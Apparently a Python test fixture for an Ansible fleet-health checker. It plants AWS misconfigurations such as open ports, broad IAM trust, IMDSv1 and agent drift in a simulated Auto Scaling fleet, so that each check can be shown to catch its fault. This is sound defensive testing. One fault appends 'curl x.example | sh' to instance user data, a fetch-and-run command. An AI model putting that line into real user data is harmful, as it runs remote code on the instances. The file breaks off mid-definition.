"""Faults to plant in a fleet, and the one check that each of them has to fail."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from typing import Any

from ansible_collections.wekruit.ghosthands.plugins.module_utils._fleet.checks.view import CHECKS, Host
from ansible_collections.wekruit.ghosthands.plugins.module_utils._fleet.facts.command import COMMAND, DID, WANT
from ansible_collections.wekruit.ghosthands.plugins.module_utils._fleet.facts.registry import Registry, WorkerRow
from localcloud.testing import PROPAGATED, wait_until

from tests.fleet.fleet import (
    ANYTHING,
    GROUP,
    LAUNCH,
    LOGS,
    MARK,
    OTHERS,
    POLICY,
    PROFILE,
    PUBLIC_KEY,
    REPOSITORY,
    ROLE,
    SECRET,
    TEMPLATE,
    TERMINATE,
    TERMINATION,
    USER,
    VALET_POLICY_ARN,
)
from tests.fleet.healthy import DEFAULT_INPUTS, IMAGE, VPC, HealthyFleet, Inputs, doctor_finding, worker

SEVERITIES = {check.id: check.severity for check in CHECKS} | {"host-asked": "warning"}

# Why a remedy's commands are not run.
ON_A_HOST = "a host has to be examined"
A_CHOICE = "an operator's own variable or credentials"
THE_WORKERS = "the worker's or VALET's matter"
THE_DATABASE = "the database's owner"

# What still fails, correctly, after a remedy.
REPLACE = ("instances-current",)  # instances of another version, or of none
NO_AGENT = ("instances-agent",)  # they are replaced when they are idle
READ_AGAIN = ("secret-rotated",)  # running workers have read the old secret

STRANGER = "999999999999"
STRANGERS_IMAGE = "ami-0999999999999a001"
SSM = "AmazonSSMManagedInstanceCore"
LOG_GROUP = {"logGroupName": LOGS}
JOB = "0f8fad5b-d9cb-469f-a165-70867728950e"


@dataclass(frozen=True)
class Fault:
    """One fault in a healthy fleet."""

    description: str
    check: str
    """id of the only check that has to fail"""
    apply: Callable[[HealthyFleet], Any] = lambda fleet: None
    inputs: Inputs = DEFAULT_INPUTS
    manual: str = ""
    """why the remedy's commands are not run; empty if they are"""
    by_hand: Callable[[HealthyFleet], Any] = lambda fleet: None
    """the part of the remedy that is not a command of the operator's"""
    remedy_variables: Mapping[str, Any] | None = None
    """variables that the remedy asks the operator to set"""
    finish: Callable[[HealthyFleet], Any] = lambda fleet: None
    """waits until what the remedy started is finished"""
    remaining: tuple[str, ...] = ()
    """ids of checks that still fail after the remedy, until instances are replaced"""
    severity: str = ""
    """if it is not the check's"""
    slow: bool = False
    """the remedy is run in `make fleet` only, as another fault has the same commands"""
    playbook: bool = False
    """also found by running verify.yml"""

    @property
    def expected_severity(self) -> str:
        """The finding's severity."""
        return self.severity or SEVERITIES[self.check]


def with_variables(**variables: Any) -> Inputs:
    """With an operator's own variables."""
    return Inputs(variables)


def later(seconds: float, **variables: Any) -> Inputs:
    """With a later present time."""
    return Inputs(variables, later=seconds)


def rows(change: Callable[[tuple[WorkerRow, ...]], tuple[WorkerRow, ...]]) -> Inputs:
    """With other rows in the registry."""
    return Inputs({}, registry=lambda r: replace(r, rows=change(r.rows)))


def first_row(**values: Any) -> Inputs:
    """With other values in the first row."""
    return rows(lambda there: (replace(there[0], **values), *there[1:]))


def without_jobs(there: Registry) -> Registry:
    """Workers that have had no job yet."""
    return replace(there, rows=tuple(replace(row, jobs_completed=0, jobs_failed=0) for row in there.rows))


def registry(change: Callable[[Registry], Registry]) -> Inputs:
    """With another registry."""
    return Inputs({}, registry=change)


def hosts(change: Callable[[tuple[Host, ...]], tuple[Host, ...]]) -> Inputs:
    """With other answers of hosts."""
    return Inputs({}, hosts=change)


def first_host(*findings: Any, problem: str = "") -> Inputs:
    """With another answer of the first host."""
    return hosts(lambda there: (Host(there[0].instance, problem, findings), *there[1:]))


def restore_profile(fleet: HealthyFleet) -> None:
    """Create the instance profile with its role."""
    fleet.client("iam").create_instance_profile(InstanceProfileName=PROFILE)
    fleet.client("iam").add_role_to_instance_profile(InstanceProfileName=PROFILE, RoleName=ROLE)
    fleet.advance(PROPAGATED)


def failed_launch(fleet: HealthyFleet) -> None:
    """A launch that failed because of the missing instance profile, which exists again, also on the instances."""
    running = fleet.in_service()
    fleet.drop_profile()
    fleet.update(DesiredCapacity=3)
    restore_profile(fleet)
    for instance in running:
        detach_profile(fleet, instance)
        fleet.client("ec2").associate_iam_instance_profile(InstanceId=instance, IamInstanceProfile={"Name": PROFILE})


def no_instances(fleet: HealthyFleet) -> None:
    """No instances, and a failed launch whose cause is repaired."""
    fleet.drop_profile()
    fleet.replace_instances()
    restore_profile(fleet)


def retained(fleet: HealthyFleet) -> None:
    """An instance whose agent abandoned the hook."""
    fleet.terminate(fleet.in_service()[0], "ABANDON")
    fleet.wait_for_launches()


def many_retained(fleet: HealthyFleet) -> None:
    """One retained instance more than fleet_retained_max."""
    for _ in range(4):
        retained(fleet)


def pending_drain(fleet: HealthyFleet) -> None:
    """An instance whose drain does not finish."""
    fleet.client("autoscaling").terminate_instance_in_auto_scaling_group(
        InstanceId=fleet.in_service()[0], ShouldDecrementDesiredCapacity=False
    )


def silent_drains(there: Registry) -> Registry:
    """With draining workers that have sent no heartbeat for long."""
    silent = (replace(row, heartbeat_age=400.0) if row.status == "draining" else row for row in there.rows)
    return replace(there, rows=tuple(silent))


def pending_launch(fleet: HealthyFleet) -> None:
    """An instance whose worker does not start."""
    fleet.complete_launches(False)
    fleet.update(DesiredCapacity=3)


def given_up_boot(fleet: HealthyFleet) -> None:
    """An instance whose agent gave up, and one that takes its place and boots."""
    fleet.complete_launches(False)
    fleet.update(DesiredCapacity=3)
    (booting,) = fleet.in_state("Pending:Wait")
    fleet.complete(booting, "ABANDON", LAUNCH)
    fleet.complete(booting)


def without_launch_hook(fleet: HealthyFleet) -> None:
    """Agents whose agent.conf names no launch hook."""
    fleet.relaunch_with_agent_conf(lambda text: text.replace(f"LAUNCH_HOOK={LAUNCH}\n", "LAUNCH_HOOK=\n"))


SHORT_WARMUP = {"fleet_warmup_seconds": 10}  # a refresh waits that long for each instance


def shorten_warmup(fleet: HealthyFleet) -> None:
    """Set the warmup of SHORT_WARMUP on the group."""
    fleet.update(DefaultInstanceWarmup=SHORT_WARMUP["fleet_warmup_seconds"])


def failed_refresh(fleet: HealthyFleet) -> None:
    """A refresh that fails because instances stay protected for an hour."""
    shorten_warmup(fleet)
    aws = fleet.client("autoscaling")
    aws.set_instance_protection(AutoScalingGroupName=GROUP, InstanceIds=fleet.in_service(), ProtectedFromScaleIn=True)
    aws.start_instance_refresh(AutoScalingGroupName=GROUP)
    fleet.set_speed(4000)
    wait_until(
        lambda: (
            aws.describe_instance_refreshes(AutoScalingGroupName=GROUP)["InstanceRefreshes"][0]["Status"] == "Failed"
        )
    )
    fleet.set_speed(1)
    aws.set_instance_protection(AutoScalingGroupName=GROUP, InstanceIds=fleet.in_service(), ProtectedFromScaleIn=False)


def stopped_refresh(fleet: HealthyFleet) -> None:
    """A refresh under way in a group that may not terminate instances."""
    shorten_warmup(fleet)
    aws = fleet.client("autoscaling")
    aws.suspend_processes(AutoScalingGroupName=GROUP, ScalingProcesses=["Terminate"])
    aws.start_instance_refresh(AutoScalingGroupName=GROUP)


def detach_profile(fleet: HealthyFleet, instance: str = "") -> str:
    """Remove the profile from an instance, the first by default; the instance's id."""
    ec2 = fleet.client("ec2")
    filters = [{"Name": "instance-id", "Values": [instance or fleet.in_service()[0]]}]
    found = ec2.describe_iam_instance_profile_associations(Filters=filters)["IamInstanceProfileAssociations"][0]
    ec2.disassociate_iam_instance_profile(AssociationId=found["AssociationId"])
    return str(found["InstanceId"])


def another_template(fleet: HealthyFleet) -> None:
    """Set another, equal launch template on the group."""
    made = fleet.client("ec2").create_launch_template(
        LaunchTemplateName="somebody-else", LaunchTemplateData=fleet.template_data()
    )
    fleet.advance(PROPAGATED)
    fleet.update(LaunchTemplate={"LaunchTemplateId": made["LaunchTemplate"]["LaunchTemplateId"], "Version": "1"})


def delete_version(fleet: HealthyFleet) -> None:
    """Delete the version that the group uses."""
    fleet.version(lambda data: None)
    fleet.client("ec2").delete_launch_template_versions(LaunchTemplateName=TEMPLATE, Versions=["1"])


def subnet_elsewhere(fleet: HealthyFleet) -> str:
    """Create another subnet in the fleet's network, in its first zone."""
    made = fleet.client("ec2").create_subnet(VpcId=VPC, CidrBlock="172.28.77.0/24", AvailabilityZone="us-east-1a")
    return str(made["Subnet"]["SubnetId"])


def delete_subnet(fleet: HealthyFleet) -> None:
    """Delete one of the group's subnets."""
    extra = subnet_elsewhere(fleet)
    fleet.update(VPCZoneIdentifier=f"{fleet.group()['VPCZoneIdentifier']},{extra}")
    fleet.client("ec2").delete_subnet(SubnetId=extra)


def open_to(source: dict[str, Any], **how: Any) -> Callable[[HealthyFleet], Any]:
    """Open a port for a source."""
    return lambda fleet: fleet.open(**source, **how)


def agent_conf(key: str, value: str) -> Callable[[HealthyFleet], Any]:
    """Agents with another value in agent.conf; without the key if the value is empty."""

    def change(text: str) -> str:
        line = f"{key}={value}\n" if value else ""
        return re.sub(rf"^{key}=.*\n", lambda _: line, text, flags=re.MULTILINE)

    return lambda fleet: fleet.relaunch_with_agent_conf(change)


def _account() -> Iterator[Fault]:
    yield Fault(
        "credentials of another account",
        "account",
        inputs=with_variables(fleet_account_id="210987654321"),
        manual=A_CHOICE,
    )


def _images() -> Iterator[Fault]:
    def deregistered(fleet: HealthyFleet) -> None:
        fleet.add_image()
        fleet.client("ec2").deregister_image(ImageId=IMAGE)

    def deregistered_and_growing(fleet: HealthyFleet) -> None:
        deregistered(fleet)
        fleet.update(DesiredCapacity=3)

    def deregistered_and_emptied(fleet: HealthyFleet) -> None:
        deregistered(fleet)
        fleet.replace_instances()

    yield Fault(
        "the image was deregistered, and no instance is left", "image-exists", deregistered_and_emptied, slow=True
    )
    yield Fault("the image was deregistered under the group", "image-exists", deregistered, playbook=True)
    yield Fault(
        "the image was deregistered, and launches fail",
        "image-exists",
        deregistered_and_growing,
        slow=True,
    )
    yield Fault(
        "the image was not baked by this kit",
        "image-origin",
        lambda f: f.tag(IMAGE, "ghosthands:agent-schema", None),
        by_hand=lambda f: f.add_image(),
        remaining=NO_AGENT,
        slow=True,
    )
    yield Fault(
        "the image's agent reads another schema",
        "image-schema",
        lambda f: f.tag(IMAGE, "ghosthands:agent-schema", "1"),
        by_hand=lambda f: f.add_image(),
        slow=True,
    )

    def older_release(fleet: HealthyFleet) -> None:
        fleet.tag(IMAGE, "ghosthands:agent-schema", "2")
        fleet.relaunch_with_agent_conf(
            lambda text: text.replace("SCHEMA=4\n", "SCHEMA=2\n").replace("WORKER_GUARD=preferred\n", "")
        )

    yield Fault(
        "an older release made the image and the user data",
        "image-schema",
        older_release,
        by_hand=lambda f: f.add_image(),
        slow=True,
    )
    yield Fault(
        "the image is too old",
        "image-age",
        inputs=with_variables(fleet_image_max_age_days=30),
        by_hand=lambda f: f.add_image(),
        slow=True,
    )

    def deprecate(fleet: HealthyFleet) -> None:
        fleet.client("ec2").enable_image_deprecation(
            ImageId=IMAGE, DeprecateAt=datetime.now(UTC) + timedelta(minutes=2)
        )

    yield Fault(
        "the image is deprecated",
        "image-deprecated",
        deprecate,
        later(600),
        by_hand=lambda f: f.add_image(),
        slow=True,
    )

    def publish(fleet: HealthyFleet) -> None:
        fleet.client("ec2").modify_image_attribute(ImageId=IMAGE, LaunchPermission={"Add": [{"Group": "all"}]})

    yield Fault("everybody may launch the image", "image-public", publish)
    for whose, image in (("a stranger's", STRANGERS_IMAGE), ("Amazon's own", "ami-0137112412989a002")):
        yield Fault(
            f"the image is {whose}",
            "image-owner",
            lambda f, image=image: f.relaunch_with(lambda data: data.update(ImageId=image)),  # type: ignore[misc]
            by_hand=lambda f: f.add_image(),
            remaining=NO_AGENT,
            slow=True,
        )


def _templates() -> Iterator[Fault]:
    def template(description: str, check: str, change: Callable[[dict[str, Any]], Any], **more: Any) -> Fault:
        return Fault(description, check, lambda f: f.relaunch_with(change), **more)

    def other_group(fleet: HealthyFleet) -> None:
        fleet.relaunch_with(lambda data: data["NetworkInterfaces"][0].update(Groups=[OTHERS]))

    yield Fault("the pinned template version was deleted", "template-exists", delete_version, slow=True)
    yield Fault(
        "the launch template was deleted",
        "template-exists",
        lambda f: f.client("ec2").delete_launch_template(LaunchTemplateName=TEMPLATE),
        slow=True,
    )
    yield template(
        "instances accept IMDSv1",
        "template-metadata",
        lambda d: d["MetadataOptions"].update(HttpTokens="optional"),
        playbook=True,
    )
    yield template(
        "the volume is not encrypted",
        "template-volumes",
        lambda d: d["BlockDeviceMappings"][0]["Ebs"].update(Encrypted=False),
        slow=True,
    )
    yield Fault(
        "the template names no instance profile",
        "template-profile",
        lambda f: f.relaunch_with(lambda data: data.pop("IamInstanceProfile")),
        slow=True,
    )
    yield Fault(
        "the key pair was deleted",
        "template-key",
        lambda f: f.client("ec2").delete_key_pair(KeyName="valet-worker"),
        remedy_variables={"fleet_key_public": PUBLIC_KEY},
        slow=True,
    )
    yield Fault("instances are in another security group", "security-group", other_group, slow=True)


def _group() -> Iterator[Fault]:
    def group(
        description: str,
        check: str,
        slow: bool = True,
        inputs: Inputs = DEFAULT_INPUTS,
        playbook: bool = False,
        **settings: Any,
    ) -> Fault:
        return Fault(description, check, lambda f: f.update(**settings), inputs, slow=slow, playbook=playbook)

    aws: Callable[[HealthyFleet], Any] = lambda f: f.client("autoscaling")  # noqa: E731
    yield Fault("the group was deleted", "group-exists", lambda f: f.drop_group(), slow=True)
    yield group(
        "the sizes differ from the operator's",
        "group-sizes",
        MaxSize=7,
        inputs=with_variables(fleet_size_owner="playbook"),
    )
    yield group("the max size is 0", "group-sizes", MinSize=0, MaxSize=0, DesiredCapacity=0)
    yield Fault("the group uses a subnet that is gone", "group-subnets", delete_subnet, slow=True)
    yield group("all subnets lie in one zone", "group-subnets", VPCZoneIdentifier="subnet-010ca1c10d00000a1")
    yield Fault("the group launches from another template", "group-template", another_template, slow=True)
    yield Fault(
        "the template was deleted and made anew under its name",
        "group-template",
        lambda f: f.recreate_template(),
        remaining=REPLACE,
    )
    yield group("instances live for a day", "group-lifetime", slow=False, MaxInstanceLifetime=86400)
    yield Fault(
        "instances are not replaced by age", "group-lifetime", inputs=with_variables(fleet_max_lifetime_days=30)
    )
    for description, metrics in (
        ("one metric is not collected", ["GroupInServiceInstances"]),
        ("only the sizes are collected", [f"Group{s}Instances" for s in ("InService", "Pending", "Standby", "Total")]),
    ):
        yield Fault(
            description,
            "group-metrics",
            lambda f, metrics=metrics: aws(f).disable_metrics_collection(  # type: ignore[misc]
                AutoScalingGroupName=GROUP, Metrics=metrics
            ),
            slow=True,
        )
    yield Fault("the group's version is $Latest", "group-version", lambda f: f.set_version("$Latest"), playbook=True)
    yield Fault(
        "AZRebalance runs",
        "group-processes",
        lambda f: aws(f).resume_processes(AutoScalingGroupName=GROUP, ScalingProcesses=["AZRebalance"]),
        slow=True,
    )
    yield Fault(
        "Launch is suspended",
        "group-processes",
        lambda f: aws(f).suspend_processes(AutoScalingGroupName=GROUP, ScalingProcesses=["Launch"]),
        slow=True,
    )
    yield Fault(
        "no metrics are collected",
        "group-metrics",
        lambda f: aws(f).disable_metrics_collection(AutoScalingGroupName=GROUP),
        slow=True,
    )
    yield group(
        "the newest instances are terminated first",
        "group-termination-policies",
        TerminationPolicies=["NewestInstance"],
    )
    yield group("the health check is the load balancer's", "group-health-check", HealthCheckType="ELB")
    yield group("the grace period is shorter", "group-health-check", HealthCheckGracePeriod=10)
    yield group("the cooldown differs", "group-cooldown", DefaultCooldown=60)
    yield group("new instances are warm at once", "group-warmup", DefaultInstanceWarmup=0)
    yield group(
        "maintenance terminates before it launches",
        "group-maintenance",
        InstanceMaintenancePolicy={"MinHealthyPercentage": 50, "MaxHealthyPercentage": 100},
    )
    yield group("new instances are protected", "group-new-instances", NewInstancesProtectedFromScaleIn=True)
    yield group("the group may be deleted with its instances", "group-deletion-protection", DeletionProtection="none")
    yield Fault(
        "a launch failed; its cause is repaired, and no launch has followed",
        "activities",
        failed_launch,
        manual="the group tries again by itself",
    )
    yield Fault(
        "a refresh failed",
        "refresh",
        failed_refresh,
        Inputs(SHORT_WARMUP),
        finish=lambda f: f.finish_refresh(),
        slow=True,
    )
    yield Fault(
        "a refresh cannot go on, as nothing may be terminated",
        "refresh",
        stopped_refresh,
        Inputs({**SHORT_WARMUP, "fleet_suspended_processes": ["AZRebalance", "Terminate"]}),
        remedy_variables={"fleet_suspended_processes": ["AZRebalance"]},
        finish=lambda f: f.finish_refresh(),
        slow=True,
    )


def _hooks() -> Iterator[Fault]:
    def hook(description: str, check: str, **settings: Any) -> Fault:
        return Fault(description, check, lambda f: f.hook(TERMINATION, **settings), slow=True)

    def renamed(fleet: HealthyFleet) -> None:
        fleet.drop_hook(TERMINATION)
        fleet.hook(
            "gh-worker-drain",
            LifecycleTransition="autoscaling:EC2_INSTANCE_TERMINATING",
            HeartbeatTimeout=300,
            DefaultResult="ABANDON",
        )

    def at_launch(fleet: HealthyFleet) -> None:
        fleet.drop_hook(TERMINATION)
        fleet.hook(
            TERMINATION,
            LifecycleTransition="autoscaling:EC2_INSTANCE_LAUNCHING",
            HeartbeatTimeout=300,
            DefaultResult="ABANDON",
        )

    yield Fault("there is no termination hook", "hook-exists", lambda f: f.drop_hook(TERMINATION), slow=True)
    yield Fault("the hook has another name", "hook-exists", renamed, remaining=("hook-strangers",), slow=True)
    yield Fault("the hook fires at launch", "hook-transition", at_launch, slow=True)
    yield hook("the hook times out between two heartbeats", "hook-timeout", HeartbeatTimeout=60)
    yield hook("an abandoned drain terminates the instance", "hook-result", DefaultResult="CONTINUE")
    yield Fault(
        "ABANDON does not retain instances",
        "hook-retention",
        lambda f: f.update(InstanceLifecyclePolicy=TERMINATE),
        playbook=True,
    )
    yield Fault(
        "agents may drain longer than the hook can hold",
        "hook-budget",
        agent_conf("DRAIN_LIMIT_SECONDS", "40000"),
        slow=True,
    )
    yield Fault(
        "a launch hook that nobody completes",
        "hook-launch",
        without_launch_hook,
        with_variables(fleet_launch_hook=False),
        slow=True,
    )
    yield Fault("there is no launch hook", "hook-launch", lambda f: f.drop_hook(LAUNCH), slow=True)
    yield Fault(
        "the launch hook's default result is CONTINUE",
        "hook-launch",
        lambda f: f.hook(LAUNCH, DefaultResult="CONTINUE"),
        slow=True,
    )
    yield Fault(
        "there is a foreign hook",
        "hook-strangers",
        lambda f: f.hook("backup", LifecycleTransition="autoscaling:EC2_INSTANCE_TERMINATING"),
    )


def _identity() -> Iterator[Fault]:
    def unlinked(fleet: HealthyFleet) -> None:
        fleet.set_profile_roles()

    def another_role(fleet: HealthyFleet) -> None:
        fleet.set_profile_roles("somebody")
        iam = fleet.client("iam")
        iam.put_role_policy(RoleName="somebody", PolicyName="all", PolicyDocument=json.dumps(ANYTHING))
        trust = iam.get_role(RoleName=ROLE)["Role"]["AssumeRolePolicyDocument"]
        iam.update_assume_role_policy(RoleName="somebody", PolicyDocument=json.dumps(trust))

    def trusting(service: str) -> Callable[[HealthyFleet], Any]:
        return lambda f: f.change_trust_policy(
            {"Effect": "Allow", "Principal": {"Service": service}, "Action": "sts:AssumeRole"}
        )

    def forbid(fleet: HealthyFleet) -> None:
        fleet.change_role_policy(
            lambda s: s.append({"Effect": "Deny", "Action": "autoscaling:Complete*", "Resource": "*"})
        )

    yield Fault("the instance profile was deleted", "profile-exists", lambda f: f.drop_profile(), slow=True)
    yield Fault("the instance profile contains no role", "profile-role", unlinked, slow=True)
    yield Fault("the instance profile contains another role", "profile-role", another_role, slow=True)
    yield Fault("EC2 may not assume the role", "role-trust", trusting("lambda.amazonaws.com"), slow=True)
    yield Fault(
        "the role lacks an action", "role-actions", lambda f: f.change_role_policy(lambda s: s.pop(0)), playbook=True
    )
    yield Fault("the role is denied an action", "role-actions", forbid, slow=True)
    yield Fault(
        "the role's policy was deleted",
        "role-actions",
        lambda f: f.client("iam").delete_role_policy(RoleName=ROLE, PolicyName=POLICY),
        slow=True,
    )
    yield Fault("an instance has lost its profile", "instances-profile", detach_profile)

    def made_anew(fleet: HealthyFleet) -> None:
        shorten_warmup(fleet)
        fleet.drop_profile()
        restore_profile(fleet)
        tags = [{"Key": "Project", "Value": "wekruit"}, MARK]
        fleet.client("iam").tag_instance_profile(InstanceProfileName=PROFILE, Tags=tags)

    yield Fault(
        "the instance profile was deleted and made anew under its name",
        "instances-profile",
        made_anew,
        Inputs(SHORT_WARMUP),
        finish=lambda f: f.finish_refresh(),
        slow=True,
    )

    def another_profile(fleet: HealthyFleet) -> None:
        fleet.client("iam").create_instance_profile(InstanceProfileName="somebody")
        fleet.client("iam").add_role_to_instance_profile(InstanceProfileName="somebody", RoleName=ROLE)
        fleet.advance(PROPAGATED)
        instance = detach_profile(fleet)
        profile = {"Name": "somebody"}
        fleet.client("ec2").associate_iam_instance_profile(InstanceId=instance, IamInstanceProfile=profile)

    yield Fault("an instance has another profile", "instances-profile", another_profile)

    ec2, assume = {"Principal": {"Service": "ec2.amazonaws.com"}}, {"Effect": "Allow", "Action": "sts:AssumeRole"}

    def trust(*statements: Mapping[str, Any]) -> Callable[[HealthyFleet], Any]:
        return lambda f: f.change_trust_policy(*({**assume, **statement} for statement in statements))

    organisation = {"Condition": {"StringEquals": {"aws:PrincipalOrgID": "o-0123456789"}}}
    for who, statement in (
        ("another service", {"Principal": {"Service": "lambda.amazonaws.com"}}),
        ("another account", {"Principal": {"AWS": f"arn:aws:iam::{STRANGER}:root"}}),
        ("a user of this account", {"Principal": {"AWS": "arn:aws:iam::123456789012:user/somebody"}}),
        ("everybody of an organisation", {"Principal": {"AWS": "*"}, **organisation}),
        (
            "an identity provider",
            {
                "Principal": {"Federated": "arn:aws:iam::123456789012:oidc-provider/token.example.org"},
                "Action": "sts:AssumeRoleWithWebIdentity",
            },
        ),
    ):
        yield Fault(f"{who} may assume the role, too", "role-trust-others", trust(ec2, statement), slow=True)
    for who, deny in (
        ("EC2", ec2),
        ("everybody, without encryption,", {"Principal": "*", "Condition": {"Bool": {"aws:SecureTransport": "false"}}}),
    ):
        yield Fault(
            f"{who} is denied the role", "role-trust", trust(ec2, {**deny, "Effect": "Deny"}), slow=who != "EC2"
        )

    def more_rights(inline: str = "", attached: str = "") -> Callable[[HealthyFleet], Any]:
        def give(fleet: HealthyFleet) -> None:
            iam = fleet.client("iam")
            if inline:
                iam.put_role_policy(RoleName=ROLE, PolicyName=inline, PolicyDocument=json.dumps(ANYTHING))
            if attached == "own":
                made = iam.create_policy(PolicyName="own", PolicyDocument=json.dumps(ANYTHING))["Policy"]
                iam.attach_role_policy(RoleName=ROLE, PolicyArn=made["Arn"])
            elif attached:
                iam.attach_role_policy(RoleName=ROLE, PolicyArn=f"arn:aws:iam::aws:policy/{attached}")

        return give

    yield Fault("the role has a second inline policy", "role-policies", more_rights("debug"))
    yield Fault("a managed policy of AWS's is attached to the role", "role-policies", more_rights("", SSM), slow=True)
    yield Fault("a policy of the account's is attached to the role", "role-policies", more_rights("", "own"), slow=True)
    yield Fault("the role has other policies of both kinds", "role-policies", more_rights("debug", SSM), slow=True)


def _ports() -> Iterator[Fault]:
    everyone, everyone6 = {"IpRanges": [{"CidrIp": "0.0.0.0/0"}]}, {"Ipv6Ranges": [{"CidrIpv6": "::/0"}]}
    yield Fault("a port is open to the world", "security-group-open", open_to(everyone), playbook=True)
    yield Fault("a port is open to the world by IPv6", "security-group-open", open_to(everyone6), slow=True)
    yield Fault(
        "everything is open to the world",
        "security-group-open",
        open_to(everyone, protocol="-1", ports=None),
        slow=True,
    )

    def v4(*cidrs: str) -> dict[str, Any]:
        return {"IpRanges": [{"CidrIp": cidr} for cidr in cidrs]}

    def by_prefix_list(*cidrs: str) -> Callable[[HealthyFleet], Any]:
        def change(fleet: HealthyFleet) -> None:
            family = "IPv6" if ":" in cidrs[0] else "IPv4"
            fleet.open(PrefixListIds=[{"PrefixListId": fleet.prefix_list(*cidrs, family=family)}])

        return change

    def overlapping(fleet: HealthyFleet) -> None:
        fleet.open(**v4("0.0.0.0/1"), ports=(3000, 3200))
        fleet.open(**v4("128.0.0.0/1"), ports=(3100, 3100))

    def quarters(fleet: HealthyFleet) -> None:
        fleet.open(**v4("0.0.0.0/2", "64.0.0.0/2"), protocol="-1", ports=None)
        fleet.open(**v4("128.0.0.0/2", "192.0.0.0/2"), ports=(22, 22))

    halves6 = {"Ipv6Ranges": [{"CidrIpv6": "2000::/4"}, {"CidrIpv6": "3000::/4"}]}
    for description, change in (
        ("two rules add up to the internet", open_to(v4("0.0.0.0/1", "128.0.0.0/1"))),
        ("two rules add up to IPv6's internet", open_to(halves6)),
        ("half of the internet may reach a port", open_to(v4("0.0.0.0/1"))),
        (
            "rules for every network of the first class add up to the internet",
            open_to(v4(*(f"{first}.0.0.0/8" for first in range(11, 64)), "128.0.0.0/2", "192.0.0.0/3")),
        ),
        ("rules for different ports have one port in common", overlapping),
        ("a rule for every protocol adds to one for a port", quarters),
        ("a prefix list adds up to the internet", by_prefix_list("0.0.0.0/1", "128.0.0.0/1")),
        ("a prefix list holds IPv6's internet", by_prefix_list("::/0")),
        ("instances answer everybody's pings", open_to(everyone, protocol="icmp", ports=(-1, -1))),
    ):
        yield Fault(description, "security-group-open", change, slow=True)

    def only(**rule: Any) -> Callable[[HealthyFleet], Any]:
        def change(fleet: HealthyFleet) -> None:
            fleet.close(outbound=True, protocol="-1", ports=None, **everyone)
            if rule:
                fleet.open(outbound=True, **rule)

        return change

    for description, change in (
        ("instances may call nobody", only()),
        ("instances may call by HTTPS only", only(ports=(443, 443), **everyone)),
        ("instances may call by TCP only", only(ports=(0, 65535), **everyone)),
        ("instances may call the account's own networks only", only(protocol="-1", ports=None, **v4("172.28.0.0/16"))),
    ):
        yield Fault(description, "security-group-egress", change, slow="nobody" not in description)

    def regroup(*groups: str, keep: bool = True) -> Callable[[HealthyFleet], Any]:
        def change(fleet: HealthyFleet) -> None:
            own = [fleet.security_group()["GroupId"]] if keep else []
            first = fleet.in_service()[0]
            fleet.client("ec2").modify_instance_attribute(InstanceId=first, Groups=[*own, *groups])

        return change

    yield Fault("an instance is in another security group, too", "instances-security-groups", regroup(OTHERS))
    yield Fault(
        "an instance is in another security group alone",
        "instances-security-groups",
        regroup(OTHERS, keep=False),
        slow=True,
    )


def _metadata() -> Iterator[Fault]:
    for description, options in (
        ("an instance accepts IMDSv1", {"HttpTokens": "optional"}),
        ("an instance has no metadata service", {"HttpEndpoint": "disabled"}),
        ("containers of containers reach an instance's metadata", {"HttpPutResponseHopLimit": 64}),
        ("an instance's metadata does not show its tags", {"InstanceMetadataTags": "disabled"}),
    ):
        yield Fault(
            description,
            "instances-metadata",
            lambda f, options=options: f.client("ec2").modify_instance_metadata_options(  # type: ignore[misc]
                InstanceId=f.in_service()[0], **options
            ),
            slow="IMDSv1" not in description,
        )


def _agents() -> Iterator[Fault]:
    def conf(description: str, check: str, key: str, value: str, **more: Any) -> Fault:
        return Fault(description, check, agent_conf(key, value), slow=True, **more)

    def silent(fleet: HealthyFleet) -> None:
        fleet.relaunch_with(lambda data: data.pop("UserData"))

    yield Fault("there is no user data", "agent-conf", silent, remaining=NO_AGENT, playbook=True)
    yield conf("agent.conf has another schema", "agent-conf", "SCHEMA", "1")
    yield conf("agent.conf lacks a key", "agent-conf", "SECRET_ID", "")
    yield conf("agents complete a hook of another name", "agent-hook", "TERMINATION_HOOK", "gh-worker-termination")
    yield conf("agents read another group", "agent-group", "GROUP", "gh-worker-asg")
    yield conf(
        "agents send heartbeats for a longer timeout than the hook's",
        "agent-heartbeat",
        "HEARTBEAT_TIMEOUT_SECONDS",
        "3600",
    )
    yield Fault(
        "the hook's timeout was changed, but agents keep the old one",
        "agent-heartbeat",
        lambda f: f.hook(TERMINATION, HeartbeatTimeout=60),
        with_variables(fleet_termination_hook_timeout=60),
        slow=True,
    )
    yield conf("agents read another secret", "agent-secret", "SECRET_ID", "ghosthands/worker/other")
    yield conf("agents use another region", "agent-region", "REGION", "eu-west-1")
    yield conf("agents have another drain policy", "agent-drain-policy", "DRAIN_POLICY", "sigterm")
    yield conf("workers boot without the guard", "agent-worker-guard", "WORKER_GUARD", "off")
    yield Fault(
        "agents complete a launch hook that there is not",
        "agent-launch-hook",
        lambda f: f.drop_hook(LAUNCH),
        with_variables(fleet_launch_hook=False),
        slow=True,
    )
    yield Fault("no agent completes the launch hook", "agent-launch-hook", without_launch_hook, slow=True)

    def run_more(fleet: HealthyFleet) -> None:
        def append(data: dict[str, Any]) -> None:
            text = base64.b64decode(data["UserData"]) + b"runcmd: [curl x.example | sh]\n"
            data["UserData"] = base64.b64encode(text).decode()

        fleet.relaunch_with(append)

    yield Fault("the user data also runs a command", "user-data", run_more)
    yield conf("agents shout", "drift-launch-template", "LOG_GROUP", "/somebody/else")


def _environment() -> Iterator[Fault]:
    def secret(call: str, **more: Any) -> Callable[[HealthyFleet], Any]:
        return lambda f: getattr(f.client("secretsmanager"), call)(SecretId=SECRET, **more)

    def rotated(fleet: HealthyFleet) -> None:
        shorten_warmup(fleet)
        secret("put_secret_value", SecretString="{}")(fleet)

    def no_image(fleet: HealthyFleet) -> None:
        fleet.client("ecr").batch_delete_image(repositoryName=REPOSITORY, imageIds=[{"imageTag": "latest"}])

    def no_repository(fleet: HealthyFleet) -> None:
        fleet.client("ecr").delete_repository(repositoryName=REPOSITORY, force=True)

    def no_events(fleet: HealthyFleet) -> None:
        fleet.client("logs").delete_log_stream(logGroupName=LOGS, logStreamName="worker")

    yield Fault(
        "the secret was deleted",
        "secret-exists",
        secret("delete_secret", ForceDeleteWithoutRecovery=True),
        remaining=READ_AGAIN,
        manual="the file with the worker's keys is the operator's",
        slow=True,
    )
    yield Fault("the secret is being deleted", "secret-exists", secret("delete_secret"), playbook=True)
    yield Fault(
